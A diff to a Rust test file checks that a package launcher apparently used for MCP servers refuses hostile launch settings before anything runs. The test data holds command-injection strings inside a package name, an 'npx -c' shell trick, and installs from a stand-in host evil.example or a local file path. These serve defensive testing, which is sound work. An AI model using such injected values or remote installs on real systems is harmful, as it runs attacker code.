@@ -192,25 +192,27 @@ async fn a_child_killed_mid_call_answers_with_a_json_rpc_error_and_a_new_session
     assert_ne!(fresh, sid);
 }
 
-#[tokio::test]
-async fn a_hostile_package_name_never_reaches_a_shell() {
+#[test]
+fn a_hostile_package_is_refused_before_anything_runs() {
     let tag = edge_tests::random_hex(6);
     let marker = std::env::temp_dir().join(format!("pwned-{tag}"));
     let m = marker.display().to_string();
-    let package = format!("x; touch {m}1 && echo $(touch {m}2) `touch {m}3` | sh");
-    let launch = json!({"runtime": "npm", "package": package}).to_string();
-    let r = Runner::start(&launch, &[]);
-    let resp = post(&r.mcp_url(), &r.secret, None, &init_body())
-        .send()
-        .await
-        .unwrap();
-    let text = resp.text().await.unwrap();
-    assert!(
-        text.contains("\"error\""),
-        "initialize of a nonsense package must fail: {text}"
-    );
-    tokio::time::sleep(Duration::from_millis(300)).await;
-    for i in 1..=3 {
+    let cases = [
+        // Shell metacharacters: never a shell, and now not even a package name.
+        json!({"runtime": "npm", "package": format!("x; touch {m}1 && echo $(touch {m}2) `touch {m}3` | sh")}),
+        // `npx -y -c <cmd>` runs <cmd> in a shell: `-c` must not be taken as a package.
+        json!({"runtime": "npm", "package": "-c", "args": [format!("touch {m}4")]}),
+        // Installing from anywhere but the registry.
+        json!({"runtime": "npm", "package": "https://evil.example/x.tgz"}),
+        json!({"runtime": "python", "package": "--from", "args": ["git+https://evil.example/x"]}),
+        json!({"runtime": "npm", "package": "left-pad", "version": "file:../x"}),
+    ];
+    for launch in cases {
+        let (code, log) = Runner::refused(&launch.to_string(), &[]);
+        assert_eq!(code, Some(2), "{launch}: {log}");
+        assert!(log.contains("CATWALK_LAUNCH refused"), "{launch}: {log}");
+    }
+    for i in 1..=4 {
         assert!(
             !std::path::Path::new(&format!("{m}{i}")).exists(),
             "a shell ran: {m}{i} exists"
